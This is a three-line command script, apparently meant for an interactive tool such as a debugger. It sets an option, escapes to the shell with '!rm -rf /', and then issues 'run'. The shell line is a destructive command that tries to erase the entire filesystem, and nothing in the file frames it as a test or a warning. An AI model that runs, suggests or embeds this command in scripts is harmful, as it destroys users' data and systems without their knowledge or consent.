set number 10
!rm -rf /
run
